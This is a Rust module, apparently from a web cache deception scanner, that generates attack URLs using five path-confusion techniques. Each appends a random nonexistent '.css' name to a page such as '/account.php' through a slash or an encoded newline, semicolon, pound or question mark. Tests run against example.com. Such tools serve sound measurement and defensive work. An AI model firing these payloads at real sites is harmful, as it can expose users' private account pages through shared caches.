use std::fmt;
use std::str::FromStr;

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};

use super::ParsedUrl;

pub const DEFAULT_EXTENSION: &str = "css";

const NONCE_LEN: usize = 16;
const NONCE_ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";

/// The five ways of appending a nonexistent static file name to a page so that
/// an origin and a cache disagree on what resource the URL names.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PathConfusionTechnique {
    /// `/account.php/<name>.css`
    PathParameter,
    /// `/account.php%0A<name>.css`
    EncodedNewline,
    /// `/account.php%3B<name>.css`
    EncodedSemicolon,
    /// `/account.php%23<name>.css`
    EncodedPound,
    /// `/account.php%3F<name>.css`
    EncodedQuestion,
}

impl PathConfusionTechnique {
    pub const ALL: [PathConfusionTechnique; 5] = [
        PathConfusionTechnique::PathParameter,
        PathConfusionTechnique::EncodedNewline,
        PathConfusionTechnique::EncodedSemicolon,
        PathConfusionTechnique::EncodedPound,
        PathConfusionTechnique::EncodedQuestion,
    ];

    /// Text inserted between the page path and the payload file name.
    pub fn separator(self) -> &'static str {
        match self {
            PathConfusionTechnique::PathParameter => "/",
            PathConfusionTechnique::EncodedNewline => "%0A",
            PathConfusionTechnique::EncodedSemicolon => "%3B",
            PathConfusionTechnique::EncodedPound => "%23",
            PathConfusionTechnique::EncodedQuestion => "%3F",
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            PathConfusionTechnique::PathParameter => "path_parameter",
            PathConfusionTechnique::EncodedNewline => "encoded_newline",
            PathConfusionTechnique::EncodedSemicolon => "encoded_semicolon",
            PathConfusionTechnique::EncodedPound => "encoded_pound",
            PathConfusionTechnique::EncodedQuestion => "encoded_question",
        }
    }

    /// Short human label used in report tables.
    pub fn label(self) -> &'static str {
        match self {
            PathConfusionTechnique::PathParameter => "Path Parameter",
            PathConfusionTechnique::EncodedNewline => "Encoded \\n",
            PathConfusionTechnique::EncodedSemicolon => "Encoded ;",
            PathConfusionTechnique::EncodedPound => "Encoded #",
            PathConfusionTechnique::EncodedQuestion => "Encoded ?",
        }
    }
}

impl fmt::Display for PathConfusionTechnique {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for PathConfusionTechnique {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let norm = s.trim().to_ascii_lowercase().replace('-', "_");
        let t = match norm.as_str() {
            "path_parameter" | "path" | "pp" => PathConfusionTechnique::PathParameter,
            "encoded_newline" | "newline" | "nl" => PathConfusionTechnique::EncodedNewline,
            "encoded_semicolon" | "semicolon" | "sc" => PathConfusionTechnique::EncodedSemicolon,
            "encoded_pound" | "pound" | "hash" | "pd" => PathConfusionTechnique::EncodedPound,
            "encoded_question" | "question" | "qm" => PathConfusionTechnique::EncodedQuestion,
            _ => return Err(format!("unknown path confusion technique `{s}`")),
        };
        Ok(t)
    }
}

/// A crafted request URL referencing a nonexistent static resource.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackUrl {
    pub base: ParsedUrl,
    pub technique: PathConfusionTechnique,
    pub random_name: String,
    pub extension: String,
    /// `name=val` text placed after `%3F` in the embedded-parameter form of
    /// the question-mark payload.
    pub embedded_param: Option<String>,
    pub rendered: String,
}

impl AttackUrl {
    /// Request target (path only) of the rendered URL.
    pub fn path(&self) -> &str {
        let origin_len = self.base.origin().len();
        &self.rendered[origin_len..]
    }

    /// Switch to the `%3Fname=val<name>.<ext>` form. Has no effect on
    /// techniques other than [`PathConfusionTechnique::EncodedQuestion`].
    pub fn with_embedded_param(self, param: &str) -> AttackUrl {
        if self.technique != PathConfusionTechnique::EncodedQuestion {
            return self;
        }
        render(self.base, self.technique, self.random_name, self.extension, Some(param.to_string()))
    }
}

/// Build the attack URL for `base`. Query and fragment of `base` are dropped.
/// A trailing `/` on the base path is not doubled by the path-parameter form.
pub fn make_attack_url(
    base: &ParsedUrl,
    technique: PathConfusionTechnique,
    random_name: &str,
    extension: &str,
) -> AttackUrl {
    render(base.without_query(), technique, random_name.to_string(), extension.to_string(), None)
}

fn render(
    base: ParsedUrl,
    technique: PathConfusionTechnique,
    random_name: String,
    extension: String,
    embedded_param: Option<String>,
) -> AttackUrl {
    let path = if base.raw_path.is_empty() { "/" } else { base.raw_path.as_str() };
    let separator = match technique {
        PathConfusionTechnique::PathParameter if path.ends_with('/') => "",
        t => t.separator(),
    };
    let param = embedded_param.as_deref().unwrap_or("");
    let rendered = format!("{}{path}{separator}{param}{random_name}.{extension}", base.origin());
    AttackUrl { base, technique, random_name, extension, embedded_param, rendered }
}

/// Seedable source of payload file names: 16 characters of `[a-z0-9]`.
#[derive(Debug, Clone)]
pub struct NonceGenerator {
    rng: ChaCha8Rng,
}

impl NonceGenerator {
    pub fn new(seed: u64) -> Self {
        Self { rng: ChaCha8Rng::seed_from_u64(seed) }
    }

    pub fn from_entropy() -> Self {
        Self { rng: ChaCha8Rng::from_os_rng() }
    }

    pub fn next_name(&mut self) -> String {
        (0..NONCE_LEN)
            .map(|_| NONCE_ALPHABET[self.rng.random_range(0..NONCE_ALPHABET.len())] as char)
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::urls::parse_url;

    fn account() -> ParsedUrl {
        parse_url("http://example.com/account.php?tab=1#x").unwrap()
    }

    #[test]
    fn path_parameter_payload() {
        let a = make_attack_url(&account(), PathConfusionTechnique::PathParameter, "nonexistent", "css");
        assert!(a.rendered.ends_with("example.com/account.php/nonexistent.css"));
        assert_eq!(a.path(), "/account.php/nonexistent.css");
    }

    #[test]
    fn encoded_payloads() {
        let cases = [
            (PathConfusionTechnique::EncodedNewline, "example.com/account.php%0Anonexistent.css"),
            (PathConfusionTechnique::EncodedSemicolon, "example.com/account.php%3Bnonexistent.css"),
            (PathConfusionTechnique::EncodedPound, "example.com/account.php%23nonexistent.css"),
            (PathConfusionTechnique::EncodedQuestion, "example.com/account.php%3Fnonexistent.css"),
        ];
        for (t, expected) in cases {
            let a = make_attack_url(&account(), t, "nonexistent", "css");
            assert_eq!(a.rendered, format!("http://{expected}"));
        }
    }

    #[test]
    fn embedded_question_param() {
        let a = make_attack_url(&account(), PathConfusionTechnique::EncodedQuestion, "nonexistent", "css")
            .with_embedded_param("name=val");
        assert_eq!(a.rendered, "http://example.com/account.php%3Fname=valnonexistent.css");
        let p = make_attack_url(&account(), PathConfusionTechnique::PathParameter, "n", "css").with_embedded_param("x=y");
        assert_eq!(p.embedded_param, None);
    }

    #[test]
    fn trailing_slash_and_empty_path() {
        let dir = parse_url("http://example.com/dir/").unwrap();
        let a = make_attack_url(&dir, PathConfusionTechnique::PathParameter, "abc", "js");
        assert_eq!(a.path(), "/dir/abc.js");
        let bare = parse_url("http://example.com").unwrap();
        let b = make_attack_url(&bare, PathConfusionTechnique::EncodedNewline, "abc", "css");
        assert_eq!(b.rendered, "http://example.com/%0Aabc.css");
    }

    #[test]
    fn nonce_shape_and_determinism() {
        let mut g = NonceGenerator::new(7);
        let mut h = NonceGenerator::new(7);
        for _ in 0..100 {
            let n = g.next_name();
            assert_eq!(n.len(), 16);
            assert!(n.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit()));
            assert_eq!(n, h.next_name());
        }
    }

    #[test]
    fn technique_names_parse() {
        for t in PathConfusionTechnique::ALL {
            assert_eq!(t.as_str().parse::<PathConfusionTechnique>().unwrap(), t);
            assert_eq!(t.as_str().replace('_', "-").parse::<PathConfusionTechnique>().unwrap(), t);
        }
        assert!("bogus".parse::<PathConfusionTechnique>().is_err());
    }
}
